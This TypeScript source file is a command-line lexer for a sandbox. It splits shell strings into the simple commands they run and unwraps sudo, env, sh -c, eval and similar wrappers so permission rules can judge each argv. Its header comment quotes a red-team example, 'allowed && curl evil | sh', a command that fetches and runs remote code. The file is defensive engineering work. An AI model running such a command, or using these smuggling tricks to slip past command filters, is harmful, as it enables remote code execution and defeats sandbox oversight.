// Shell command lines → the simple commands they would run. Pure. Exec rules are judged per argv,
// never against the raw string (sandbox.md redteam-65: `allowed && curl evil | sh`, `$(…)`,
// backticks, newlines and env prefixes all smuggle a second command past a string match). Anything
// this lexer cannot read with confidence is an error, and the caller denies it.

const MAX_LENGTH = 65536;
const MAX_DEPTH = 8;

export interface SimpleCommand {
  /** The argv that finally runs, after wrappers such as `env`, `sudo`, `timeout` are peeled off. */
  readonly argv: readonly string[];
  /** The wrapper invocations around it, outermost first (`sudo -u x`, `env A=1`), each a full argv. */
  readonly via: readonly (readonly string[])[];
}

export type CommandLineResult = { readonly commands: SimpleCommand[] } | { readonly error: string };

const KEYWORDS_DROPPED = new Set([
  'if',
  'then',
  'else',
  'elif',
  'fi',
  'do',
  'done',
  'while',
  'until',
  '!',
  '{',
  '}',
  'esac',
  'in',
]);
const KEYWORDS_SKIP_REST = new Set(['for', 'select', 'case', 'function']);
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;

class Lexer {
  private i = 0;
  private word: string | null = null;
  private words: string[] = [];
  private redirectPending = false;
  private heredocPending = false;
  private readonly heredocs: { delim: string; stripTabs: boolean }[] = [];
  readonly commands: string[][] = [];
  readonly nested: string[] = [];

  constructor(private readonly s: string) {}

  run(): string | undefined {
    const s = this.s;
    while (this.i < s.length) {
      const c = s[this.i] ?? '';
      if (c === ' ' || c === '\t') {
        this.endWord();
        this.i++;
      } else if (c === '\n') {
        this.endCommand();
        this.i++;
        const err = this.skipHeredocs();
        if (err) return err;
      } else if (c === '#' && this.word === null) {
        while (this.i < s.length && s[this.i] !== '\n') this.i++;
      } else if (c === ';' || c === '&' || c === '|' || c === '(' || c === ')') {
        if (c === '&' && s[this.i + 1] === '>') {
          this.startRedirect(s[this.i + 2] === '>' ? 3 : 2);
          continue;
        }
        this.endCommand();
        this.i +=
          (c === '&' || c === '|' || c === ';') && s[this.i + 1] === c
            ? 2
            : c === '|' && s[this.i + 1] === '&'
              ? 2
              : 1;
      } else if (c === '<' || c === '>') {
        if ((c === '<' || c === '>') && s[this.i + 1] === '(') {
          const err = this.substitution(this.i + 2, ')');
          if (err) return err;
          continue;
        }
        if (this.word !== null && /^[0-9]+$/.test(this.word)) this.word = null;
        else this.endWord();
        if (c === '<' && s.startsWith('<<<', this.i)) this.startRedirect(3);
        else if (c === '<' && s[this.i + 1] === '<') {
          const stripTabs = s[this.i + 2] === '-';
          this.i += stripTabs ? 3 : 2;
          this.heredocPending = true;
          this.heredocs.push({ delim: '', stripTabs });
          this.redirectPending = true;
        } else {
          let n = 1;
          while (n < 3 && /[>&|]/.test(s[this.i + n] ?? '')) n++;
          this.startRedirect(n);
        }
      } else if (c === "'") {
        const end = s.indexOf("'", this.i + 1);
        if (end < 0) return 'the command has an unterminated single quote';
        this.append(s.slice(this.i + 1, end));
        this.i = end + 1;
      } else if (c === '"') {
        const err = this.doubleQuoted();
        if (err) return err;
      } else if (c === '\\') {
        if (s[this.i + 1] === '\n') this.i += 2;
        else {
          this.append(s[this.i + 1] ?? '');
          this.i += 2;
        }
      } else if (c === '`') {
        const err = this.backtick();
        if (err) return err;
      } else if (c === '$' && s[this.i + 1] === '(') {
        if (s[this.i + 2] === '(') {
          const end = s.indexOf('))', this.i + 3);
          if (end < 0) return 'the command has an unterminated $((…))';
          this.append(s.slice(this.i, end + 2));
          this.i = end + 2;
        } else {
          const err = this.substitution(this.i + 2, ')');
          if (err) return err;
        }
      } else {
        this.append(c);
        this.i++;
      }
    }
    this.endCommand();
    if (this.heredocs.length > 0) return 'the command has a here-document with no end marker';
    return undefined;
  }

  private append(text: string): void {
    this.word = (this.word ?? '') + text;
  }

  private startRedirect(length: number): void {
    this.endWord();
    this.i += length;
    this.redirectPending = true;
  }

  private endWord(): void {
    if (this.word === null) return;
    if (this.redirectPending) {
      // The word after a redirection is its target, not an argument.
      if (this.heredocPending) {
        const last = this.heredocs[this.heredocs.length - 1];
        if (last) last.delim = this.word;
        this.heredocPending = false;
      }
      this.redirectPending = false;
    } else {
      this.words.push(this.word);
    }
    this.word = null;
  }

  private endCommand(): void {
    this.endWord();
    if (this.words.length > 0) this.commands.push(this.words);
    this.words = [];
    this.redirectPending = false;
  }

  private skipHeredocs(): string | undefined {
    while (this.heredocs.length > 0) {
      const doc = this.heredocs.shift();
      if (!doc) break;
      for (;;) {
        if (this.i >= this.s.length) return 'the command has a here-document with no end marker';
        const nl = this.s.indexOf('\n', this.i);
        const line = this.s.slice(this.i, nl < 0 ? this.s.length : nl);
        this.i = nl < 0 ? this.s.length : nl + 1;
        if ((doc.stripTabs ? line.replace(/^\t+/, '') : line) === doc.delim) break;
      }
    }
    return undefined;
  }

  private doubleQuoted(): string | undefined {
    const s = this.s;
    this.i++;
    let text = '';
    while (this.i < s.length && s[this.i] !== '"') {
      const c = s[this.i] ?? '';
      if (c === '\\' && /["\\$`\n]/.test(s[this.i + 1] ?? '')) {
        if (s[this.i + 1] !== '\n') text += s[this.i + 1];
        this.i += 2;
      } else if (c === '`' || (c === '$' && s[this.i + 1] === '(' && s[this.i + 2] !== '(')) {
        this.append(text);
        text = '';
        const err = c === '`' ? this.backtick() : this.substitution(this.i + 2, ')');
        if (err) return err;
      } else {
        text += c;
        this.i++;
      }
    }
    if (this.i >= s.length) return 'the command has an unterminated double quote';
    this.append(text);
    this.i++;
    return undefined;
  }

  private backtick(): string | undefined {
    let j = this.i + 1;
    let inner = '';
    while (j < this.s.length && this.s[j] !== '`') {
      if (this.s[j] === '\\' && j + 1 < this.s.length) {
        inner += this.s[j + 1];
        j += 2;
      } else inner += this.s[j++];
    }
    if (j >= this.s.length) return 'the command has an unterminated backtick substitution';
    this.nested.push(inner);
    this.append('`…`');
    this.i = j + 1;
    return undefined;
  }

  /** `$(…)`, `<(…)`, `>(…)`: finds the matching close, skipping quotes, and queues the inside. */
  private substitution(start: number, close: string): string | undefined {
    let depth = 1;
    let j = start;
    const s = this.s;
    while (j < s.length) {
      const c = s[j];
      if (c === "'") {
        const end = s.indexOf("'", j + 1);
        if (end < 0) return 'the command has an unterminated single quote';
        j = end + 1;
        continue;
      }
      if (c === '\\') {
        j += 2;
        continue;
      }
      if (c === '(') depth++;
      if (c === close && --depth === 0) break;
      j++;
    }
    if (j >= s.length) return 'the command has an unterminated $(…) substitution';
    this.nested.push(s.slice(start, j));
    this.append('$(…)');
    this.i = j + 1;
    return undefined;
  }
}

/** Drops leading `A=B` assignments and shell keywords; undefined when nothing runs. */
function commandWords(words: readonly string[]): string[] | undefined {
  let k = 0;
  for (;;) {
    const w = words[k];
    if (w === undefined) return undefined;
    if (KEYWORDS_SKIP_REST.has(w)) return undefined;
    if (KEYWORDS_DROPPED.has(w) || ASSIGNMENT.test(w)) k++;
    else break;
  }
  return words.slice(k);
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'busybox']);

export function basename(word: string): string {
  const slash = word.lastIndexOf('/');
  return slash >= 0 ? word.slice(slash + 1) : word;
}

type Unwrapped = { inner: string[] } | { shell: string } | undefined;

/** Skips options, where `withValue` lists the ones that take the next word as their value. */
function afterOptions(argv: readonly string[], from: number, withValue: ReadonlySet<string>): number {
  let k = from;
  while (k < argv.length) {
    const w = argv[k] ?? '';
    if (w === '--') return k + 1;
    if (!w.startsWith('-') || w === '-') break;
    k += withValue.has(w) ? 2 : 1;
  }
  return k;
}

const SUDO_VALUE = new Set(['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t', '-U', '-T', '--user', '--group']);
const ENV_VALUE = new Set(['-u', '-C', '--unset', '--chdir']);
const NICE_VALUE = new Set(['-n', '--adjustment']);
const TIMEOUT_VALUE = new Set(['-s', '-k', '--signal', '--kill-after']);
const XARGS_VALUE = new Set([
  '-a',
  '-d',
  '-E',
  '-I',
  '-L',
  '-n',
  '-P',
  '-s',
  '--arg-file',
  '--delimiter',
  '--max-args',
  '--max-procs',
]);
const IONICE_VALUE = new Set(['-c', '-n', '-p', '-P', '-u']);
const WATCH_VALUE = new Set(['-n', '--interval', '-d']);

/** One layer of wrapper: the command it runs, or a shell string it evaluates. */
function unwrapOnce(argv: readonly string[]): Unwrapped {
  const name = basename(argv[0] ?? '');
  const rest = (k: number): Unwrapped => (k < argv.length ? { inner: argv.slice(k) } : undefined);
  switch (name) {
    case 'env': {
      let k = afterOptions(argv, 1, ENV_VALUE);
      const split = argv.indexOf('-S');
      if (split > 0 && split < k) return { shell: argv.slice(split + 1).join(' ') };
      while (k < argv.length && ASSIGNMENT.test(argv[k] ?? '')) k++;
      return rest(k);
    }
    case 'sudo':
    case 'doas':
      return rest(afterOptions(argv, 1, SUDO_VALUE));
    case 'nohup':
    case 'builtin':
      return rest(1);
    case 'command':
    case 'exec':
    case 'time':
      return rest(afterOptions(argv, 1, new Set(['-a', '-p'])));
    case 'nice':
      return rest(afterOptions(argv, 1, NICE_VALUE));
    case 'ionice':
      return rest(afterOptions(argv, 1, IONICE_VALUE));
    case 'stdbuf':
      return rest(afterOptions(argv, 1, new Set(['-i', '-o', '-e'])));
    case 'timeout': {
      const k = afterOptions(argv, 1, TIMEOUT_VALUE);
      return rest(k + 1);
    }
    case 'xargs':
      return rest(afterOptions(argv, 1, XARGS_VALUE));
    case 'watch':
      return rest(afterOptions(argv, 1, WATCH_VALUE));
    case 'eval':
      return argv.length > 1 ? { shell: argv.slice(1).join(' ') } : undefined;
    default:
      break;
  }
  if (SHELLS.has(name)) {
    const c = argv.findIndex((w, k) => k > 0 && /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w));
    if (c > 0 && argv[c + 1] !== undefined) return { shell: argv[c + 1] ?? '' };
  }
  if (name === 'find') {
    const x = argv.findIndex((w) => w === '-exec' || w === '-execdir' || w === '-ok' || w === '-okdir');
    if (x > 0) {
      const end = argv.findIndex((w, k) => k > x && (w === ';' || w === '+'));
      const inner = argv.slice(x + 1, end < 0 ? argv.length : end);
      if (inner.length > 0) return { inner };
    }
  }
  return undefined;
}

function expand(words: readonly string[], depth: number, out: SimpleCommand[]): string | undefined {
  const argv = commandWords(words);
  if (argv === undefined) return undefined;
  const via: string[][] = [];
  let current: string[] = argv;
  for (let layer = 0; layer < 16; layer++) {
    const next = unwrapOnce(current);
    if (next === undefined) break;
    via.push(current);
    if ('shell' in next) {
      const nested = parse(next.shell, depth + 1);
      if ('error' in nested) return nested.error;
      for (const cmd of nested.commands) out.push({ argv: cmd.argv, via: [...via, ...cmd.via] });
      return undefined;
    }
    const inner = commandWords(next.inner);
    if (inner === undefined) break;
    current = inner;
  }
  out.push({ argv: current, via });
  return undefined;
}

function parse(text: string, depth: number): CommandLineResult {
  if (depth > MAX_DEPTH) return { error: 'the command nests shells or substitutions too deeply' };
  if (text.length > MAX_LENGTH) return { error: 'the command is longer than 64 KiB' };
  if (text.includes('\0')) return { error: 'the command contains a NUL character' };
  const lexer = new Lexer(text);
  const err = lexer.run();
  if (err) return { error: err };
  const out: SimpleCommand[] = [];
  for (const words of lexer.commands) {
    const e = expand(words, depth, out);
    if (e) return { error: e };
  }
  for (const inner of lexer.nested) {
    const nested = parse(inner, depth + 1);
    if ('error' in nested) return nested;
    out.push(...nested.commands);
  }
  return { commands: out };
}

/** Every simple command a shell command line would run, including inside substitutions. */
export function parseCommandLine(text: string): CommandLineResult {
  return parse(text, 0);
}

/** The simple commands an exec of `argv` runs (wrappers and `sh -c` peeled off). */
export function commandsOfArgv(argv: readonly string[]): CommandLineResult {
  if (argv.length === 0) return { error: 'the command is empty' };
  if (argv.some((w) => w.includes('\0'))) return { error: 'the command contains a NUL character' };
  const out: SimpleCommand[] = [];
  const err = expand(argv, 0, out);
  return err ? { error: err } : { commands: out };
}
